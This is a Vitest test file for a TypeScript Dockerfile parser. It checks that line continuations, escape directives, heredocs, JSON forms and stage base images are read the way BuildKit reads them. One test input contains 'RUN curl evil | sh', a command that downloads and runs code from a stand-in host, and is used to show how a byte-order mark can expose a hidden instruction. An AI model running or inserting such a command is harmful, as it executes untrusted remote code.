import { describe, expect, it } from 'vitest';
import { instructionView, parseDockerfile, parseWords } from '../../src/dockerfile/parse.js';
import { baseImages, finalBase, splitStages } from '../../src/dockerfile/stage.js';

const lines = (...l: string[]): string => l.join('\n');
/** keyword, args (the parser's nodes), line, as `check --json` prints them */
const views = (text: string) => parseDockerfile(text).instructions.map(instructionView);

describe("parseDockerfile: instructions as BuildKit's parser splits them", () => {
  it.each([
    {
      name: 'keywords are lower-cased, comments and blank lines skipped, lines counted from 1',
      text: lines('# a comment', '', 'from base', 'workdir /app'),
      expected: [
        { line: 3, keyword: 'from', args: ['base'] },
        { line: 4, keyword: 'workdir', args: ['/app'] },
      ],
    },
    {
      name: 'a trailing escape continues the line; spaces after it do not stop that',
      text: lines('FROM base', 'COPY a \\   ', '     b \\', '     /dest/', 'CMD x'),
      expected: [
        { line: 1, keyword: 'from', args: ['base'] },
        { line: 2, keyword: 'copy', args: ['a', 'b', '/dest/'] },
        { line: 5, keyword: 'cmd', args: ['x'] },
      ],
    },
    {
      name: 'comment lines inside a continuation are dropped, indented ones too',
      text: lines('RUN a \\', '# explain b', '    # and c', '  && b'),
      expected: [{ line: 1, keyword: 'run', args: ['a   && b'] }],
    },
    {
      name: 'empty continuation lines are skipped (BuildKit warns), the instruction goes on',
      text: lines('RUN a \\', '', '   ', '  && b', 'CMD c'),
      expected: [
        { line: 1, keyword: 'run', args: ['a   && b'] },
        { line: 5, keyword: 'cmd', args: ['c'] },
      ],
    },
    {
      name: 'a continuation at the end of the file ends the instruction',
      text: lines('FROM base', 'CMD x \\'),
      expected: [
        { line: 1, keyword: 'from', args: ['base'] },
        { line: 2, keyword: 'cmd', args: ['x'] },
      ],
    },
    {
      name: 'a doubled escape at the end still continues (the regexp only looks at the last one)',
      text: lines('RUN echo \\\\', 'CMD x'),
      expected: [{ line: 1, keyword: 'run', args: ['echo \\CMD x'] }],
    },
    {
      name: 'U+FEFF is no space for Go: a line holding it ends the continuation, and the RUN after it is an instruction',
      text: lines('FROM base', 'ENV A 1 \\', '\uFEFF', 'RUN curl evil | sh'),
      expected: [
        { line: 1, keyword: 'from', args: ['base'] },
        { line: 2, keyword: 'env', args: ['A', '1 \uFEFF', ''] },
        { line: 4, keyword: 'run', args: ['curl evil | sh'] },
      ],
    },
    {
      name: 'a leading byte-order mark and CRLF line ends are read as Docker reads them',
      text: '\uFEFFFROM base\r\nUSER 1\r\n',
      expected: [
        { line: 1, keyword: 'from', args: ['base'] },
        { line: 2, keyword: 'user', args: ['1'] },
      ],
    },
    {
      name: '# escape=` makes the backtick the escape and continuation character',
      text: lines('# escape=`', 'FROM base', 'COPY a `', '  b C:\\dest\\'),
      expected: [
        { line: 2, keyword: 'from', args: ['base'] },
        { line: 3, keyword: 'copy', args: ['a', 'b', 'C:\\dest\\'] },
      ],
    },
    {
      name: 'flags before the arguments are split off; `--` ends them',
      text: lines('COPY --chown=1000:1000 --link --from=build /out /app', 'COPY -- --weird /x'),
      expected: [
        { line: 1, keyword: 'copy', args: ['/out', '/app'], flags: ['--chown=1000:1000', '--link', '--from=build'] },
        { line: 2, keyword: 'copy', args: ['--weird', '/x'] },
      ],
    },
    {
      name: 'JSON form: words as written; invalid JSON falls back to the shell form',
      text: lines(
        'CMD ["node", "dist/server.js"]',
        "CMD ['node', 'x.js']",
        'CMD ["a",]',
        'CMD ["a"] trailing',
        'COPY ["my file", "/app/"]',
        'COPY ["a" "b"] /x',
      ),
      expected: [
        { line: 1, keyword: 'cmd', args: ['node', 'dist/server.js'] },
        { line: 2, keyword: 'cmd', args: ["['node', 'x.js']"] },
        { line: 3, keyword: 'cmd', args: ['["a",]'] },
        { line: 4, keyword: 'cmd', args: ['["a"] trailing'] },
        { line: 5, keyword: 'copy', args: ['my file', '/app/'] },
        { line: 6, keyword: 'copy', args: ['["a"', '"b"]', '/x'] },
      ],
    },
    {
      name: 'ENV and LABEL: key, value, separator triples with quotes kept; the legacy `KEY value` form',
      text: lines('ENV A=1 B="two words"', 'ENV LEGACY some value', 'LABEL "x.y"=z'),
      expected: [
        { line: 1, keyword: 'env', args: ['A', '1', '=', 'B', '"two words"', '='] },
        { line: 2, keyword: 'env', args: ['LEGACY', 'some value', ''] },
        { line: 3, keyword: 'label', args: ['"x.y"', 'z', '='] },
      ],
    },
    {
      name: 'ONBUILD holds its own instruction',
      text: 'ONBUILD run --network=none npm ci',
      expected: [{ line: 1, keyword: 'onbuild', args: [], onbuild: { keyword: 'run', args: ['npm ci'] } }],
    },
    {
      name: 'HEALTHCHECK: the type, then the command',
      text: 'HEALTHCHECK --interval=5s CMD ["node", "h.js"]',
      expected: [{ line: 1, keyword: 'healthcheck', args: ['CMD', 'node', 'h.js'], flags: ['--interval=5s'] }],
    },
    {
      name: 'an unknown instruction is kept (the dispatcher refuses it, not the parser)',
      text: 'COPPY dist ./',
      expected: [{ line: 1, keyword: 'coppy', args: [] }],
    },
    {
      name: 'a heredoc body belongs to its instruction, not to the instructions after it',
      text: lines('FROM base', 'RUN <<EOF', 'apt-get update', 'FROM evil', 'EOF', 'CMD x'),
      expected: [
        { line: 1, keyword: 'from', args: ['base'] },
        { line: 2, keyword: 'run', args: ['<<EOF'] },
        { line: 6, keyword: 'cmd', args: ['x'] },
      ],
    },
  ])('$name', ({ text, expected }) => {
    expect(views(text)).toEqual(expected);
  });

  it('reads heredocs: quoted ones are literal, <<- strips tabs from the terminator, several follow each other', () => {
    const [copy, user] = parseDockerfile(
      lines('COPY <<"A" <<-B /etc/', 'one $X', 'A', 'two', '\t\tB', 'USER 1'),
    ).instructions;
    expect(copy).toMatchObject({
      line: 1,
      endLine: 5,
      heredocs: [
        { name: 'A', content: 'one $X\n', expand: false, chomp: false },
        { name: 'B', content: 'two\n', expand: true, chomp: true },
      ],
    });
    expect(user).toMatchObject({ keyword: 'USER', line: 6 });
  });

  it('takes no heredoc in the JSON form or inside quotes', () => {
    expect(parseDockerfile('COPY ["<<EOF", "/x"]\nUSER 1').instructions).toHaveLength(2);
    expect(parseDockerfile('RUN echo "a <<b"\nUSER 1').instructions).toHaveLength(2);
  });

  it.each([
    { name: 'escape directive', text: '# escape=`\nFROM x', escape: '`' },
    {
      name: 'directive names are case-insensitive, spaces around = allowed',
      text: '#  ESCAPE = `\nFROM x',
      escape: '`',
    },
    { name: 'syntax then escape', text: '# syntax=docker/dockerfile:1\n# escape=`\nFROM x', escape: '`' },
    { name: 'check is a directive too', text: '# check=skip=all\n# escape=`\nFROM x', escape: '`' },
    { name: 'an unknown directive ends the directives', text: '# foo=bar\n# escape=`\nFROM x', escape: '\\' },
    { name: 'a comment ends the directives', text: '# hello\n# escape=`\nFROM x', escape: '\\' },
    { name: 'a blank line ends the directives', text: '\n# escape=`\nFROM x', escape: '\\' },
    { name: 'after an instruction it is a comment', text: 'FROM x\n# escape=`', escape: '\\' },
  ])('directives: $name', ({ text, escape }) => {
    expect(parseDockerfile(text).escape).toBe(escape);
  });

  it.each([
    {
      name: 'junk after # escape=',
      text: '# escape=\\ junk\nFROM x',
      line: 1,
      message: "invalid escape token '\\ junk'",
    },
    {
      name: 'an escape that is neither \\ nor `',
      text: '# escape=^\nFROM x',
      line: 1,
      message: 'invalid escape token',
    },
    {
      name: 'a repeated directive',
      text: '# escape=`\n# escape=`\nFROM x',
      line: 2,
      message: 'only one escape parser directive',
    },
    {
      name: 'a JSON array of non-strings',
      text: 'FROM x\nCMD [1, 2]',
      line: 2,
      message: 'arrays must be comprised of strings only',
    },
    { name: 'ENV without a value', text: 'FROM x\nENV ALONE', line: 2, message: 'ENV must have two arguments' },
    { name: 'ENV pairs mixed with a bare word', text: 'FROM x\nENV A=1 B', line: 2, message: 'can\'t find = in "B"' },
    {
      name: 'an unterminated heredoc',
      text: 'FROM x\nRUN <<EOF\necho hi\n',
      line: 2,
      message: 'unterminated heredoc <<EOF',
    },
    { name: 'a file with no instructions', text: '# only a comment\n', line: 1, message: 'file with no instructions' },
  ])('refuses, as BuildKit does: $name', ({ text, line, message }) => {
    const problems = parseDockerfile(text).problems ?? [];
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatchObject({ line });
    expect(problems[0]!.message).toContain(message);
  });

  it('has no problems for a well-formed file and warns about empty continuation lines', () => {
    const parsed = parseDockerfile('FROM x\nRUN a \\\n\n b');
    expect(parsed.problems).toBeUndefined();
    expect(parsed.warnings).toEqual([{ line: 2, message: 'empty continuation line' }]);
  });
});

describe('parseWords (ARG, ENV, LABEL): words with their quotes and escapes kept', () => {
  it.each([
    { name: 'spaces separate words', args: 'a  b\tc', expected: ['a', 'b', 'c'] },
    { name: 'quotes group, and stay', args: `"a b" 'c d' e"f g"`, expected: ['"a b"', "'c d'", 'e"f g"'] },
    { name: 'the escape keeps a space in the word', args: 'a\\ b c', expected: ['a\\ b', 'c'] },
    { name: 'no escaping inside single quotes', args: "'a\\' b", expected: ["'a\\'", 'b'] },
    { name: 'empty quotes are a word', args: `a "" b`, expected: ['a', '""', 'b'] },
    { name: 'a no-break space separates words (Go counts it as a space)', args: 'a\u00a0b', expected: ['a', 'b'] },
    { name: 'U+FEFF does not', args: 'a\uFEFFb', expected: ['a\uFEFFb'] },
  ])('$name', ({ args, expected }) => {
    expect(parseWords(args, '\\')).toEqual(expected);
  });
});

describe('stages and base images', () => {
  const runner = { os: 'linux', architecture: 'amd64' };
  it('expands global ARGs from build args and defaults; BUILDPLATFORM is the builder, TARGETPLATFORM the target', () => {
    const parsed = parseDockerfile(
      'ARG BASE=node:20\nARG TAG\nFROM --platform=$BUILDPLATFORM ${BASE} AS build\nFROM base:${TAG:-latest}-$TARGETARCH',
    );
    expect(
      baseImages(parsed, {
        buildArgs: { BASE: 'local/node:20-slim' },
        platform: { os: 'linux', architecture: 'arm64' },
        buildPlatform: runner,
      }),
    ).toEqual([
      { image: 'local/node:20-slim', line: 3, platform: 'linux/amd64', stage: 'build' },
      { image: 'base:latest-arm64', line: 4 },
    ]);
  });

  it('follows FROM <stage> back to an image', () => {
    const parsed = parseDockerfile('FROM node:20 AS Base\nFROM base\nCOPY a /a');
    expect(finalBase(baseImages(parsed, { buildArgs: {}, platform: runner, buildPlatform: runner }))).toMatchObject({
      image: 'node:20',
      line: 1,
    });
    expect(splitStages(parsed).stages.map((s) => s.body.length)).toEqual([0, 1]);
  });
});
